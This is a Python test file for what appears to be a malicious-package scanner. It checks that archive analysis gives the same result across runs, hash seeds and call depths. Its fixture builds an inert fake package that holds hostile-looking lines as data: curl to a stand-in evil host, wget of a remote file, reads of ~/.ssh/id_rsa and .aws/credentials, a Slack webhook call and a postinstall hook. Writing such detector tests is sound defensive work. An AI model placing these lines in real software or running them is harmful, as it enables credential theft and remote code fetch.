"""The analysis of an archive is the same every time: in one process, and in another process with
a different string-hash seed (set and dict order), whatever the load of the machine."""

from __future__ import annotations

import ast
import base64
import hashlib
import os
import subprocess
import sys
from pathlib import Path

from malgraph.analysis.analyze import analyze_archive, analyze_members
from malgraph.analysis.languages import scan_code
from malgraph.analysis.manifests import read_manifests
from malgraph.analysis.python_code import setup_facts
from malgraph.analysis.scanning import CodeScan
from malgraph.artifacts.archives import Member
from tests.inert_packages import tar_gz

_PAYLOAD = base64.b64encode(hashlib.sha512(b"inert").digest() * 400).decode()
_FILES = {
    "pkg/setup.py": (
        "import os, base64, subprocess as sp\nfrom setuptools import setup\n"
        f"blob = '{_PAYLOAD}'\n"
        "sp.call(['curl', 'http://evil.example.com/x'])\n"
        "setup(name='pkg', version='1.0', install_requires=['requests>=2', 'six'])\n"
    ).encode(),
    "pkg/pkg/__init__.py": b"import socket, os\nos.environ['HOME']\nopen('~/.ssh/id_rsa')\n",
    "pkg/pkg/old.py": b'print "python 2"\nimport os\nos.system("id")\n' * 50,
    "pkg/js/index.js": (
        b"const cp = require('child_process');\ncp.exec('wget 1.2.3.4/a');\n"
        b"var x = a" + b".eval" * 3000 + b";\nfetch('https://hooks.slack.com/services/T/B/C');\n"
    ),
    "pkg/js/garbage.js": bytes(range(32, 127)) * 200 + b"(((({[[[" * 500,
    "pkg/lib/tool.rb": b"require 'net/http'\nsystem('ls')\n`whoami`\nFile.read('.aws/credentials')",
    "pkg/package.json": b'{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "node x"}}',
    "pkg/PKG-INFO": b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n",
}


def _analysis_text(data: bytes) -> str:
    return repr(analyze_archive(data, "pkg-1.0.tar.gz"))


def test_the_same_archive_gives_the_same_analysis_in_and_across_processes(tmp_path: Path) -> None:
    data = tar_gz(_FILES)
    first = _analysis_text(data)
    assert first == _analysis_text(data)
    assert "id_rsa" in first and "child_process" in first  # the scan did run
    archive = tmp_path / "pkg-1.0.tar.gz"
    archive.write_bytes(data)
    script = (
        "import sys\nfrom pathlib import Path\n"
        "from malgraph.analysis.analyze import analyze_archive\n"
        "print(repr(analyze_archive(Path(sys.argv[1]).read_bytes(), 'pkg-1.0.tar.gz')), end='')\n"
    )
    for seed in ("1", "4242"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        other = subprocess.run(
            [sys.executable, "-c", script, str(archive)],
            env=env,
            capture_output=True,
            text=True,
            check=True,
        )
        assert other.stdout == first


def test_a_deeply_nested_file_is_cut_at_the_same_point_every_time() -> None:
    text = "var x = a" + ".eval" * 60_000 + ";\n" + "eval(y);\n" * 100
    first = scan_code("deep.js", text, "javascript")
    assert any("work budget (deep nesting)" in p for p in first.problems)
    assert scan_code("deep.js", text, "javascript") == first


def test_setup_py_is_parsed_once_and_its_walk_feeds_the_manifest_reader(
    parsed_sources: list[str],
) -> None:
    setup = b"import os\nfrom setuptools import setup\nsetup(name='p', install_requires=['six'])\n"
    features = analyze_members([Member("p/setup.py", setup)])
    assert parsed_sources == [setup.decode()]
    assert [d.name for d in features.dependencies] == ["six"]
    # The reader takes the facts it is given: those of other text show that it read them.
    other = ast.parse("from setuptools import setup\nsetup(name='p', install_requires=['attrs'])")
    member = Member("p/setup.py", setup)
    scan = read_manifests([member], {member: setup_facts(other)})
    assert [d.name for d in scan.dependencies] == ["attrs"]


def _scan_at_depth(frames: int, text: str) -> object:
    if frames:
        return _scan_at_depth(frames - 1, text)
    return scan_code("deep.py", text, "python")


def test_a_deeply_nested_python_file_reads_the_same_at_any_call_depth() -> None:
    # ast's recursion limit counts the caller's frames: the scan gives each parse the same room.
    text = "x = " + "-" * 2500 + "1\nimport os\nos.system('id')\n"
    shallow = _scan_at_depth(0, text)
    assert shallow == _scan_at_depth(700, text)
    assert isinstance(shallow, CodeScan) and shallow.problems == ()
    assert [f.api for f in shallow.findings] == ["os.system"]


def test_two_setup_py_files_at_one_path_each_give_their_own_manifest() -> None:
    """A tar may hold one path twice: each file's manifest is read from its own walk."""
    first = b"from setuptools import setup\nsetup(name='g', install_requires=['x'])\n"
    second = b"setup = lambda **k: None\nsetup(name='shadow', install_requires=['s'])\n"
    features = analyze_members([Member("p/setup.py", first), Member("p/setup.py", second)])
    alone = [analyze_members([Member("p/setup.py", text)]) for text in (first, second)]
    assert sorted(d.name for d in features.dependencies) == sorted(
        d.name for one in alone for d in one.dependencies
    )


# tree-sitter lists a query's captures in an order that changes from one parse of the same bytes
# to the next; these files give another answer in another order (the first finding of a line
# keeps its column's snippet, the last import of a name is its binding).
_FILLER = "'s', " * 120
_ORDER_SENSITIVE = {
    "old.py": (  # Python 2, so read by tree-sitter
        "import os as tool\nimport subprocess as tool\nprint 'python 2'\n"
        f"x = ['AAA discord 1', {_FILLER}'BBB discord 2']\ntool.call(['ls'])\n"
    ),
    "tool.rb": f"x = ['AAA discord 1', {_FILLER}'BBB discord 2']\n",
}


def test_files_read_by_tree_sitter_give_one_answer_in_source_order() -> None:
    for path, text in _ORDER_SENSITIVE.items():
        language = "python" if path.endswith(".py") else "ruby"
        scans = {scan_code(path, text, language) for _ in range(25)}
        assert len(scans) == 1, path
        (scan,) = scans
        credentials = [f for f in scan.findings if f.api == "discord"]
        assert len(credentials) == 1 and credentials[0].snippet.startswith("x = ['AAA discord 1'")
    python = scan_code("old.py", _ORDER_SENSITIVE["old.py"], "python")
    assert any("read with tree-sitter" in problem for problem in python.problems)
    assert [f.api for f in python.findings if f.line == 5] == ["subprocess.call"]
